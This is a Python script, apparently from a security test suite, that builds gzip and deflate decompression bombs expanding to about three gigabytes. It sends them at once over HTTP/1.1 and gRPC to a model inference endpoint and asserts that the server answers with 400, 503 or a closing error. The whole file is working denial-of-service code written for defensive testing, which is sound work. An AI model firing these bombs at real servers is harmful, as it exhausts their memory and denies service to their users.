"""A client sends kilobytes that decompress to gigabytes, through both doors and many at once, and hangs up on some.

Each ends at the limit of any message, in an error.
"""

from __future__ import annotations

import threading
import zlib

from attacks import http2
from attacks.story import Victim, exchange, tell

SIZE = 3 << 30
"""More than the bytes in flight, and than the limit of an HTTP body, of the server under attack."""


def attack(victim: Victim) -> None:
    """More at a time than there is room for; two clients do not wait for the answer."""
    bombs = {name: bomb(bits) for name, bits in (("gzip", 31), ("deflate", 15))}
    over_http = [threading.Thread(target=post, args=(victim, name, bombs[name])) for name in bombs]
    over_grpc = [threading.Thread(target=call, args=(victim, name, bombs[name])) for name in bombs]
    for thread in over_http + over_grpc:
        thread.start()
    for name in bombs:
        exchange(victim.http, head(name, bombs[name]) + bombs[name], hang_up=True)
    for thread in over_http + over_grpc:
        thread.join()


def bomb(bits: int) -> bytes:
    """One block again and again; the end is missing, and nobody should come that far."""
    packer = zlib.compressobj(9, zlib.DEFLATED, bits)
    part = bytes(16 << 20)
    first, block = (packer.compress(part) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + block * (SIZE // len(part))


def head(coding: str, body: bytes) -> bytes:
    lines = ["POST /v2/models/echo/infer HTTP/1.1", "Host: x", "Connection: close", f"Content-Encoding: {coding}"]
    return "\r\n".join([*lines, f"Content-Length: {len(body)}", "", ""]).encode()


def post(victim: Victim, coding: str, body: bytes) -> None:
    answer = exchange(victim.http, head(coding, body) + body, hang_up=False)
    assert answer[9:12] in (b"400", b"503"), answer[:200]


def call(victim: Victim, coding: str, body: bytes) -> None:
    with http2.Connection(victim.grpc) as connection:
        connection.greet()
        headers = http2.call_headers(extra=http2.literal(b"grpc-encoding", coding.encode()))
        data = b"\x01" + http2.message(body)[1:]
        connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, headers))
        for at in range(0, len(data), 16_000):
            last = at + 16_000 >= len(data)
            connection.send(http2.frame(http2.DATA, http2.END_STREAM if last else 0, 1, data[at : at + 16_000]))
        answer = connection.receive_until(http2.HEADERS)
        assert answer is not None, "the connection was closed"
        assert answer[1] & http2.END_STREAM, "the bomb was answered as if it were a request"


if __name__ == "__main__":
    tell(attack)
